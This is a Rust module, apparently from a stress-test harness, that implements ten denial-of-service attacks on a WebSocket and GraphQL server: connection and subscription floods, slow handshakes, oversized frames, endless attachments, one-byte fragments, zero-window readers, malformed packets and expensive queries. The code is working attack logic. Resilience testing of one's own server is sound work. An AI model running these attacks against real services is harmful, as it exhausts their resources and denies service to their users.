//! Attacks on a server, by somebody who has an account and a few addresses.

use std::net::IpAddr;
use std::time::Duration;

use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::{Instant, sleep, timeout_at};

use super::queries;
use super::raw_socket::{RawSocketClient, dial_from, frame, upgrade};

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Opens WebSockets and drops them, or leaves them without a word.
    Connections,
    /// Sends a request's head one byte at a time.
    SlowHandshake,
    /// Announces frames of 64 MiB and sends as much of them as is taken.
    HugeFrames,
    /// Announces attachments, and sends them without end.
    Attachments,
    /// Answers questions that nobody asked.
    Acks,
    /// Sends a message in fragments of one byte.
    Fragments,
    /// Asks for much and reads nothing.
    ZeroWindow,
    /// Joins and leaves as fast as it can.
    Subscriptions,
    /// Sends packets that are none.
    Malformed,
    /// Asks GraphQL queries whose fragments, aliases, lists and directives come to far more than their text.
    Queries,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Self; 10] = [
        Self::Connections,
        Self::SlowHandshake,
        Self::HugeFrames,
        Self::Attachments,
        Self::Acks,
        Self::Fragments,
        Self::ZeroWindow,
        Self::Subscriptions,
        Self::Malformed,
        Self::Queries,
    ];

    /// Returns what people call it.
    pub const fn words(self) -> &'static str {
        match self {
            Self::Connections => "connection flood",
            Self::SlowHandshake => "slow handshake",
            Self::HugeFrames => "64 MiB frames",
            Self::Attachments => "attachment flood",
            Self::Acks => "ack flood",
            Self::Fragments => "1-byte fragments",
            Self::ZeroWindow => "zero-window readers",
            Self::Subscriptions => "subscription storm",
            Self::Malformed => "malformed packets",
            Self::Queries => "GraphQL queries",
        }
    }
}

/// Who attacks what.
#[derive(Clone)]
pub struct Attacker {
    /// The server's address.
    pub url: String,
    /// An access token.
    pub token: String,
    /// The address that it connects from.
    pub from: IpAddr,
    /// The campaign whose rooms it asks for.
    pub campaign: String,
}

impl Attacker {
    /// Attacks over one connection after the other until a time.
    pub async fn run(self, attack: Attack, until: Instant) {
        while Instant::now() < until {
            // What the server does to the connection is its own affair; the next one follows.
            let _ = timeout_at(until, self.once(attack)).await;
            // One who is refused at once must not spend the machine's time on trying.
            sleep(Duration::from_millis(5)).await;
        }
    }

    async fn once(&self, attack: Attack) -> Option<()> {
        match attack {
            Attack::Connections => {
                let silent = RawSocketClient::over(self.dial().await?, "").await;
                sleep(Duration::from_millis(fastrand::u64(0..50))).await;
                drop(silent);
                Some(())
            }
            Attack::SlowHandshake => {
                let mut stream = self.dial().await?;
                for byte in upgrade("").bytes() {
                    stream.write_all(&[byte]).await.ok()?;
                    sleep(Duration::from_millis(100)).await;
                }
                Some(())
            }
            Attack::HugeFrames => {
                let mut raw = self.enter().await?;
                let head = [&[0x81, 0xff][..], &(64_u64 << 20).to_be_bytes(), &[0; 4]].concat();
                raw.stream.write_all(&head).await.ok()?;
                let zeros = vec![b'x'; 64 * 1024];
                for _ in 0..1_024 {
                    raw.stream.write_all(&zeros).await.ok()?;
                }
                Some(())
            }
            Attack::Attachments => {
                let mut raw = self.enter().await?;
                let announced = frame(0x81, b"459-[\"latency\",{\"_placeholder\":true,\"num\":0}]");
                let attached = frame(0x82, &vec![0; 60_000]);
                loop {
                    raw.stream.write_all(&announced).await.ok()?;
                    raw.stream.write_all(&attached).await.ok()?;
                }
            }
            Attack::Acks => self.flood(&frame(0x81, b"43999999[{\"success\":true}]").repeat(200)).await,
            Attack::Fragments => {
                let mut raw = self.enter().await?;
                raw.stream.write_all(&frame(0x01, b"4")).await.ok()?;
                let pieces = frame(0x00, b"2").repeat(1_000);
                loop {
                    raw.stream.write_all(&pieces).await.ok()?;
                }
            }
            Attack::ZeroWindow => {
                let mut raw = self.enter().await?;
                let ask =
                    json!(["subscribe_campaign", {"campaignId": self.campaign, "since": {"epoch": "x", "seq": 0}}]);
                let ask = frame(0x81, format!("421{ask}").as_bytes());
                loop {
                    raw.stream.write_all(&ask).await.ok()?;
                    sleep(Duration::from_millis(1)).await;
                }
            }
            Attack::Subscriptions => {
                let campaign = &self.campaign;
                let turn = format!("421[\"subscribe_campaign\",\"{campaign}\"]");
                let back = format!("422[\"unsubscribe_campaign\",\"{campaign}\"]");
                let both = [frame(0x81, turn.as_bytes()), frame(0x81, back.as_bytes())].concat();
                self.flood(&both.repeat(50)).await
            }
            Attack::Malformed => {
                let mut raw = self.enter().await?;
                let mut noise = vec![0; fastrand::usize(1..200)];
                fastrand::Rng::new().fill(&mut noise);
                let lead: &[u8] = fastrand::choice([&b"42"[..], b"4", b"40", b"451-", b"", b"43", b"2"]).unwrap();
                raw.send_bytes(&frame(0x81, &[lead, &noise].concat())).await;
                raw.send_bytes(&noise).await;
                raw.stream.shutdown().await.ok()
            }
            Attack::Queries => {
                let mut stream = self.dial().await?;
                let query = fastrand::choice(queries::expensive(&self.campaign))?;
                stream.write_all(queries::request(&self.token, &query).as_bytes()).await.ok()?;
                tokio::io::copy(&mut stream, &mut tokio::io::sink()).await.ok().map(|_| ())
            }
        }
    }

    /// Sends the same bytes for ever, and reads what comes back so that it is not the reading that ends it.
    async fn flood(&self, bytes: &[u8]) -> Option<()> {
        let raw = self.enter().await?;
        let (mut reader, mut writer) = raw.stream.into_split();
        let drain = async { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await.ok().map(|_| ()) };
        tokio::select! { end = drain => end, end = pour(&mut writer, bytes) => end }
    }

    async fn enter(&self) -> Option<RawSocketClient> {
        let mut raw = RawSocketClient::over(self.dial().await?, "").await?;
        raw.greet(&json!({"token": self.token})).await.ok()?;
        Some(raw)
    }

    async fn dial(&self) -> Option<tokio::net::TcpStream> {
        dial_from(&self.url, self.from).await.ok()
    }
}

async fn pour(writer: &mut OwnedWriteHalf, bytes: &[u8]) -> Option<()> {
    loop {
        writer.write_all(bytes).await.ok()?;
    }
}
